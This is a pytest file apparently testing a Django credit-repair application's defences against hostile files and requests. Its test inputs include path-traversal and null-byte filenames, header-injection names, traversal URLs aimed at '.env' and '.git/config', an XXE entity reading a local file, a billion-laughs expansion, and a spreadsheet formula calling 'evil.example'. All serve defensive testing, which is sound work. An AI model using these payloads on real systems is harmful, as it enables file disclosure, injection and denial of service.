"""Files that are meant to do harm: by their name, by what is in them, by where they are asked for."""

import io
import zipfile
from collections.abc import Iterator
from email.message import Message
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from credit_repair.cases.models import Attachment
from credit_repair.core.clock import assume
from credit_repair.registry.importing.columns import ImportUnreadable
from credit_repair.registry.importing.reader import SourceTable
from credit_repair.repairs import services as repairs
from tests import world as county
from tests.registry.tables import as_workbook, row


@pytest.fixture(autouse=True)
def _today() -> Iterator[None]:
    with assume(county.TODAY):
        yield


def _attached(name: str) -> tuple[county.World, Attachment]:
    made = county.build_world()
    case = county.draft(made)
    upload = SimpleUploadedFile("x", county.PDF)
    upload._name = name  # as a hostile client may send it
    repairs.add_material(
        filing=case.filing, actor=made.clerk, today=county.TODAY, kind="proof", upload=upload
    )
    attachment = Attachment.objects.get()
    return made, attachment


@pytest.mark.django_db
@pytest.mark.parametrize(
    "name", ["../../../../etc/cron.d/x.pdf", "/etc/passwd", "..\\..\\x.pdf", "x.php", "x.pdf\0.php"]
)
def test_the_name_of_a_file_has_no_say_in_where_it_lies(name: str) -> None:
    _made, attachment = _attached(name)
    stored = Path(default_storage.path(attachment.file.name)).resolve()
    assert stored.is_relative_to(Path(default_storage.path("")).resolve())
    assert stored.suffix == ".pdf"
    assert not {"x", "passwd", "php"} & set(attachment.file.name.replace("/", ".").split("."))


@pytest.mark.django_db
@pytest.mark.parametrize(
    "name", ['a"; filename="b.exe.pdf', "a\r\nSet-Cookie: x=1.pdf", "凭证\u202efdp.exe.pdf", "甲 乙.pdf"]
)
def test_the_name_of_a_file_adds_nothing_to_the_answer(name: str) -> None:
    made, attachment = _attached(name)
    client = Client()
    client.force_login(made.clerk)
    answer = client.get(reverse("attachment", args=[attachment.uuid]))
    said = answer["Content-Disposition"]
    header = Message()
    header["Content-Disposition"] = said
    read = header.get_params(header="content-disposition") or []
    assert [part for part, _value in read] == ["attachment", "filename"], said
    assert (
        "\r" not in said
        and "\n" not in said
        and "\u202e" not in said
        and "exe." not in said.partition(".pdf")[2]
    )
    assert "x" not in answer.cookies


@pytest.mark.django_db
@pytest.mark.parametrize(
    "address",
    [
        "/static/../manage.py",
        "/static/%2e%2e/manage.py",
        "/static/..%2f..%2fetc/passwd",
        "/static/",
        "/static/desk/",
        "/files/",
        "/media/",
        "/var/desk.sqlite3",
        "/.git/config",
        "/.env",
        "/docs/",
        "/templates/base.html",
        "/files/materials/../../settings.py",
        "/demo/mails/..%2f..%2fdesk.sqlite3/",
    ],
)
def test_no_address_leads_to_a_file_or_a_folder(address: str, settings: Any) -> None:
    settings.WHITENOISE_USE_FINDERS = settings.WHITENOISE_AUTOREFRESH = True
    assert Client().get(address).status_code == 404


def _workbook_with(entity: str) -> io.BytesIO:
    """A workbook whose first text is an entity that the document itself defines."""
    changed = io.BytesIO()
    with (
        zipfile.ZipFile(as_workbook([row(1, name="华泰")])) as source,
        zipfile.ZipFile(changed, "w") as target,
    ):
        for part in source.infolist():
            content = source.read(part).decode("utf-8", errors="surrogateescape")
            if part.filename.endswith((".xml",)) and "华泰" in content:
                head, tag, rest = (
                    content.partition("<sst") if "<sst" in content else content.partition("<worksheet")
                )
                content = f"{entity}{tag}{rest.replace('华泰', '&x;', 1)}"
            target.writestr(part.filename, content.encode("utf-8", errors="surrogateescape"))
    changed.seek(0)
    return changed


def test_a_workbook_reads_no_other_file(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET", encoding="utf-8")
    hostile = _workbook_with(f'<!DOCTYPE x [<!ENTITY x SYSTEM "{secret.as_uri()}">]>')
    _assert_unread(hostile, "TOPSECRET")


def test_a_workbook_does_not_multiply_itself() -> None:
    lines = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    _assert_unread(_workbook_with(f'<!DOCTYPE x [<!ENTITY a0 "ha">{lines}<!ENTITY x "&a11;">]>'), "haha")


def _assert_unread(hostile: io.BytesIO, word: str) -> None:
    try:
        with SourceTable(hostile) as table:
            assert word not in str(list(table.rows()))
    except ImportUnreadable:
        pass  # refused whole: as good


def test_a_formula_in_a_workbook_is_not_computed() -> None:
    book = openpyxl.load_workbook(as_workbook([row(1, name="华泰")]))
    sheet = book.active
    assert sheet is not None
    for cell in sheet[2]:
        if cell.value == "华泰":
            cell.value = '=WEBSERVICE("http://evil.example/")'
    file = io.BytesIO()
    book.save(file)
    file.seek(0)
    with SourceTable(file) as table:
        assert "WEBSERVICE" not in str(list(table.rows()))
